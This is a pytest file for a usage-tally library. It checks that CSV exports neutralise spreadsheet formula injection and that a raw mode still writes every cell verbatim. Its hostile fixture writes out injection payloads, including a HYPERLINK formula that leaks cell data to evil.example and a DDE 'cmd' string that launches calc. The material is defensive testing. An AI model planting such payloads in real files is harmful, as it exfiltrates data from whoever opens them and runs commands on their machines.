"""CSV exports cannot smuggle spreadsheet formulas: text cells starting with = + - @, tab or CR get a leading '.

An attacker controls the text of their own events (event_id, kind, error_code,
attribute values); whoever opens the user's export in a spreadsheet must not
run it. Numbers stay numbers, the stored data are unchanged, and `raw` /
`--raw` writes every cell verbatim.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
from pathlib import Path

import psycopg
import pytest
from click.testing import CliRunner
from psycopg.types.string import TextLoader

from pgtally import AsyncClient, Client
from pgtally.cli import main

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
UTC = dt.timezone.utc
DAY = dt.date(2025, 3, 10)
FROM, TO = dt.datetime(2025, 3, 10, tzinfo=UTC), dt.datetime(2025, 3, 11, tzinfo=UTC)
EVENT_TEXT = {"event_id", "kind", "status", "error_code", "attributes", "corrects_event_id"}
ROLLUP_TEXT = {"dimension", "value"}


def _hostile(i: int, prefix: str) -> dict[str, object]:
    return {
        "event_id": f'{prefix}HYPERLINK("http://evil.example/?leak="&A1,"click") {i}',
        "kind": f"{prefix}kind{i}",
        "error_code": f"{prefix}cmd|' /C calc'!A0 {i}",
        "attributes": {"voice": f"{prefix}voice{i}", "model": f"{prefix}2+3 {i}"},
    }


@pytest.fixture
def victim(conn: psycopg.Connection) -> psycopg.Connection:
    """User 'victim' with one event per dangerous prefix, an amendment of the '-' one, and a plain event."""
    for i, prefix in enumerate(PREFIXES):
        e = _hostile(i, prefix)
        conn.execute(
            "select tally.record_usage(%s, 'victim', %s, 10, %s, 1000, 0.5, %s, %s, true, %s)",
            (
                e["event_id"],
                e["kind"],
                FROM + dt.timedelta(hours=i),
                "succeeded" if prefix == "-" else "failed",
                e["error_code"],
                json.dumps(e["attributes"]),
            ),
        )
    # An amendment: negative numbers (which must stay numbers) and a corrects_event_id starting with '-'.
    conn.execute("select tally.amend_usage('victim', %s, 'amend-1', -15, -400, -0.75)", (_hostile(2, "-")["event_id"],))
    conn.execute("""select tally.record_usage('plain-1', 'victim', 'tts', 3, '2025-03-10 12:00+00', 20, 0.25,
                                              attributes => '{"voice": "af_alloy", "model": "kokoro"}')""")
    return conn


def _stored(conn: psycopg.Connection, sql: str, params: tuple[object, ...]) -> tuple[list[str], list[list[str]]]:
    """The rows as the database holds them, every value in PostgreSQL's text form (what a raw CSV carries)."""
    cur = conn.cursor()
    for type_name in ("text", "timestamptz", "int8", "numeric", "bool", "jsonb", "date"):
        cur.adapters.register_loader(type_name, TextLoader)
    cur.execute(f"select * from {sql}", params)
    names = [c.name for c in cur.description or []]
    return names, [["" if v is None else v for v in row] for row in cur.fetchall()]


def _parse(data: bytes | str) -> tuple[list[str], list[list[str]]]:
    text = data.decode() if isinstance(data, bytes) else data
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    return header, rows


def _assert_neutralized(safe: bytes | str, raw: bytes | str, text_columns: set[str]) -> int:
    """Text cells of ``safe`` are ``raw``'s with a ' before a dangerous first character; other cells equal. Returns how many got one."""
    header, safe_rows = _parse(safe)
    raw_header, raw_rows = _parse(raw)
    assert header == raw_header and len(safe_rows) == len(raw_rows)
    quoted = 0
    for safe_row, raw_row in zip(safe_rows, raw_rows):
        for name, cell, verbatim in zip(header, safe_row, raw_row):
            if name in text_columns and verbatim[:1] in PREFIXES:
                assert cell == "'" + verbatim, (name, cell)
                quoted += 1
            else:
                assert cell == verbatim, (name, cell)
            # What a spreadsheet would run: nothing, except numbers such as -5 in numeric columns.
            if cell[:1] in PREFIXES:
                assert name not in text_columns and cell[:1] == "-" and float(cell) < 0, (name, cell)
    return quoted


def _function_columns(conn: psycopg.Connection, name: str) -> list[str]:
    row = conn.execute(
        """select array_agg(n order by o) from pg_proc p,
                                 unnest(p.proargnames, p.proargmodes) with ordinality as a(n, m, o)
                           where p.oid = %s::regproc and m = 't'""",
        (f"tally.{name}",),
    ).fetchone()
    return list(row[0]) if row else []


def test_event_export_neutralizes_every_formula_cell(victim: psycopg.Connection) -> None:
    client = Client(victim)
    safe, raw = io.BytesIO(), io.BytesIO()
    assert client.export_events_csv("victim", FROM, TO, safe) == len(PREFIXES) + 2
    assert client.export_events_csv("victim", FROM, TO, raw, raw=True) == len(PREFIXES) + 2
    # raw=True is the database's data verbatim ...
    names, stored = _stored(victim, "tally.export_events('victim', %s, %s)", (FROM, TO))
    assert _parse(raw.getvalue()) == (names, stored)
    assert sum(1 for row in stored for cell in row if cell[:1] in PREFIXES) > 3 * len(PREFIXES)
    # ... and the default prefixes each dangerous text cell: event_id, kind, error_code of every hostile event
    # and the amendment's corrects_event_id (18 + 1 + its kind); the amounts of the amendment stay negative numbers.
    quoted = _assert_neutralized(safe.getvalue(), raw.getvalue(), EVENT_TEXT)
    assert quoted == 3 * len(PREFIXES) + 2
    header, rows = _parse(safe.getvalue())
    assert header == _function_columns(victim, "export_events"), "the export must keep every column of the function"
    amendment = dict(zip(header, next(r for r in rows if r[0] == "amend-1")))
    assert (amendment["quantity"], amendment["duration_ms"], amendment["cost"]) == ("-15", "-400", "-0.75")
    assert amendment["corrects_event_id"].startswith("'-HYPERLINK(")
    # Attributes stay the JSON object they were (it starts with "{": nothing to run); the values show in rollups.
    for row in rows:
        assert json.loads(dict(zip(header, row))["attributes"])
    # The stored data are unchanged.
    assert victim.execute(
        "select count(*) from tally.usage_events where left(event_id, 1) = any(%s)", (PREFIXES,)
    ).fetchone() == (len(PREFIXES),)


def test_rollup_export_neutralizes_dimension_values(victim: psycopg.Connection) -> None:
    client = Client(victim)
    victim.execute("select tally.merge_pending()")
    safe, raw = io.StringIO(), io.StringIO()
    n = client.export_rollups_csv("victim", DAY, DAY, safe)
    assert client.export_rollups_csv("victim", DAY, DAY, raw, raw=True) == n
    names, stored = _stored(victim, "tally.export_rollups('victim', %s, %s)", (DAY, DAY))
    assert _parse(raw.getvalue()) == (names, stored)
    # kind, voice and model of each hostile event (the amendment shares its original's values).
    assert _assert_neutralized(safe.getvalue(), raw.getvalue(), ROLLUP_TEXT) == 3 * len(PREFIXES)
    header, rows = _parse(safe.getvalue())
    assert header == _function_columns(victim, "export_rollups")
    minus_kind = dict(zip(header, next(r for r in rows if r[1] == "kind" and r[2] == "'-kind2")))
    assert minus_kind["quantity"] == "-5", "10 then an amendment of -15: a negative number, not a quoted text"
    voice = io.BytesIO()
    client.export_rollups_csv("victim", DAY, DAY, voice, dimension="voice")
    assert sorted(r[2] for r in _parse(voice.getvalue())[1]) == sorted(
        ["af_alloy"] + [f"'{p}voice{i}" for i, p in enumerate(PREFIXES)]
    )


def test_plain_values_round_trip_unchanged(conn: psycopg.Connection) -> None:
    conn.execute("""select tally.record_usage('job-1', 'u', 'tts', 1200, '2025-03-10 08:00+00', 86000, 0.012,
                                              attributes => '{"voice": "af_alloy", "note": "a, \\"b\\" = c"}')""")
    conn.execute(
        "select tally.record_usage('job-2', 'u', 'ocr', 2, '2025-03-10 09:00+00', status => 'failed', "
        "error_code => 'timeout 30s', attributes => '{\"model\": \"x-1\"}')"
    )
    client = Client(conn)
    for export in (
        lambda out, raw: client.export_events_csv("u", FROM, TO, out, raw=raw),
        lambda out, raw: client.export_rollups_csv("u", DAY, DAY, out, raw=raw),
    ):
        safe, raw = io.BytesIO(), io.BytesIO()
        export(safe, False)
        export(raw, True)
        assert safe.getvalue() == raw.getvalue() and safe.getvalue().count(b"\n") > 2


def test_readers_may_call_the_neutralizer(victim: psycopg.Connection) -> None:
    assert victim.execute(
        "select has_function_privilege('tally_reader', 'tally._csv_safe(text)', 'execute'), "
        "has_function_privilege('public', 'tally._csv_safe(text)', 'execute')"
    ).fetchone() == (True, False)
    victim.execute("select tally.merge_pending()")
    victim.execute("set role tally_reader")
    victim.execute("select set_config('tally.user_id', 'victim', false)")
    out = io.StringIO()
    assert Client(victim).export_rollups_csv("victim", DAY, DAY, out) == 3 * len(PREFIXES) + 3
    assert "'=voice0" in out.getvalue()
    assert all(value[:1] not in PREFIXES for _, _, value, *_ in _parse(out.getvalue())[1])


def test_async_client_neutralizes_too(victim: psycopg.Connection, dsn: str) -> None:
    async def export() -> tuple[str, str]:
        async with await AsyncClient.connect(dsn) as tally:
            safe, raw = io.StringIO(), io.StringIO()
            await tally.export_events_csv("victim", FROM, TO, safe)
            await tally.export_events_csv("victim", FROM, TO, raw, raw=True)
            return safe.getvalue(), raw.getvalue()

    safe, raw = asyncio.run(export())
    assert _assert_neutralized(safe, raw, EVENT_TEXT) == 3 * len(PREFIXES) + 2


def _cli(*args: str) -> object:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def test_cli_export_neutralizes_and_raw_opts_out(victim: psycopg.Connection, dsn: str, tmp_path: Path) -> None:
    victim.execute("select tally.merge_pending()")
    files = {}
    for name, extra in {
        "events": [],
        "events-raw": ["--raw"],
        "rollups": ["--rollups"],
        "rollups-raw": ["--rollups", "--raw"],
    }.items():
        files[name] = tmp_path / f"{name}.csv"
        res = _cli(
            "export",
            "victim",
            "--dsn",
            dsn,
            "--from",
            "2025-03-10",
            "--to",
            "2025-03-10",
            "-o",
            str(files[name]),
            *extra,
        )
        assert res.exit_code == 0, res.output  # type: ignore[attr-defined]
    events, events_raw = files["events"].read_bytes(), files["events-raw"].read_bytes()
    assert _parse(events_raw) == _stored(victim, "tally.export_events('victim', %s, %s)", (FROM, TO))
    assert _assert_neutralized(events, events_raw, EVENT_TEXT) == 3 * len(PREFIXES) + 2
    rollups, rollups_raw = files["rollups"].read_bytes(), files["rollups-raw"].read_bytes()
    assert _parse(rollups_raw) == _stored(victim, "tally.export_rollups('victim', %s, %s)", (DAY, DAY))
    assert _assert_neutralized(rollups, rollups_raw, ROLLUP_TEXT) == 3 * len(PREFIXES)
    # Standard output gets the same safe CSV.
    res = _cli("export", "victim", "--dsn", dsn, "--from", "2025-03-10", "--to", "2025-03-10")
    assert res.exit_code == 0 and res.stdout_bytes == events  # type: ignore[attr-defined]
    res = _cli("export", "--help")
    assert "--raw" in res.output and "unsafe" in res.output  # type: ignore[attr-defined]


def test_the_neutralizer_is_inlined_so_exports_stay_fast(conn: psycopg.Connection) -> None:
    # Called once per exported cell: as a function call (e.g. with a pinned search_path, which prevents
    # inlining) a million-row export took four times as long.
    plan = "\n".join(
        r[0]
        for r in conn.execute(
            "explain verbose select tally._csv_safe(event_id), tally._csv_safe(attributes::text) "
            "from tally.export_events('u', %s, %s)",
            (FROM, TO),
        )
    )
    assert "_csv_safe" not in plan and plan.count("CASE WHEN") == 2, plan
    assert conn.execute(
        "select tally._csv_safe(null), tally._csv_safe(''), tally._csv_safe('a=1'), tally._csv_safe('-1')"
    ).fetchone() == (None, "", "a=1", "'-1")
